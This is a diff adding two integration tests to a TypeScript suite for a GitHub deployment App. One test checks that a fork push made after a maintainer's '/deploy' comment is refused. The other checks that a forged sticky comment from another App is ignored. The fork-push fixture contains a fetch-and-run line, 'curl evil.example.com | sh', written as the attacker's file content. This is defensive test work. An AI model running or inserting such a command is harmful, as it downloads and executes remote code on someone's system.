@@ -387,6 +387,40 @@ describe('the App on a real Probot server against the GitHub API test server', (
     expect(deployments(s)[0]).toMatchObject({ ref: head, sha: head });
   });
 
+  test('with allow_forks on, a fork push between the comment and its handling is refused, and naming the reviewed sha deploys it', async () => {
+    const s = await start({
+      config: `${CHECKED.replace(/requires: \{ checks: success \}/g, 'requires: { checks: none }')}  allow_forks: true\n`,
+    });
+    s.github.state.addRepository('forker/hello-service');
+    const reviewed = s.github.state.addCommit(REPOSITORY, { branch: 'fork-feature', files: { 'f.ts': '1' } });
+    const fork = s.github.state.addPullRequest(REPOSITORY, {
+      head: 'fork-feature',
+      fork: 'forker/hello-service',
+    });
+    const asked = s.github.state.addComment(REPOSITORY, fork.number, {
+      user: 'octocat',
+      body: '/deploy staging',
+    });
+    // The fork's author pushes the moment the maintainer comments, before GitHub delivers the webhook.
+    const pushed = s.github.state.addCommit(REPOSITORY, {
+      branch: 'fork-feature',
+      files: { 'f.ts': 'curl evil.example.com | sh' },
+      date: new Date(asked.createdAt.getTime() + 1_000),
+    });
+    expect(
+      await s.send('issue_comment', s.commentPayload(asked.id, '/deploy staging', 'octocat', fork.number)),
+    ).toBe(200);
+    expect(await settled(s, asked.id)).toEqual(['eyes', 'confused']);
+    expect(replies(s).at(-1)).toContain(`\`${pushed.slice(0, 7)}\`, was committed at`);
+    expect(replies(s).at(-1)).toContain('after your comment');
+    expect(deployments(s)).toHaveLength(0);
+    expect(rollgateRefs(s)).toEqual([]);
+
+    const named = await s.comment(`/deploy staging ${reviewed}`, { pullNumber: fork.number });
+    expect(await settled(s, named.commentId)).toEqual(['eyes', 'rocket']);
+    expect(deployments(s).map((d) => d.sha)).toEqual([reviewed]);
+  });
+
   test("Rollgate's own check runs never count against its own deployments; a skipped check run blocks", async () => {
     const s = await start({ config: CHECKED });
     s.github.state.addCommitStatus(REPOSITORY, s.headSha, { context: 'ci/test', state: 'success' });
@@ -493,6 +527,22 @@ describe('the App on a real Probot server against the GitHub API test server', (
     await settled(s, commentId);
     expect(repo(s).comments.get(forged.id)?.body).toBe('<!-- rollgate:environments [] -->\nforged');
     expect(stickies(s)).toHaveLength(1);
+  });
+
+  test("another App's comment carrying the sticky marker is neither edited nor taken for this App's", async () => {
+    const s = await start();
+    const impostor = s.github.state.otherApp({ slug: 'copycat-deploys' });
+    const forgedBody =
+      '<!-- rollgate:environments [{"environment":"staging","state":"success","version":"v0.0.1","sha":"0000000","by":"mallory","deploymentId":1}] -->\n### 🚦 Rollgate environments\nforged';
+    const forged = s.github.state.addComment(REPOSITORY, s.pullNumber, { app: impostor, body: forgedBody });
+    const { commentId } = await s.comment('/deploy staging');
+    await settled(s, commentId);
+    expect(repo(s).comments.get(forged.id)?.body).toBe(forgedBody);
+    // This App's own sticky comment, with this deploy's row only: nothing of the forged one merged in.
+    expect(stickies(s)).toHaveLength(1);
+    expect(stickies(s)[0]).toContain('| `staging` |');
+    expect(stickies(s)[0]).not.toContain('mallory');
+    expect(s.github.calls.filter((c) => c.path.endsWith(`/issues/comments/${forged.id}`))).toEqual([]);
   });
 
   test('deploys to two environments at once from one pull request share one sticky comment, losing no row', async () => {
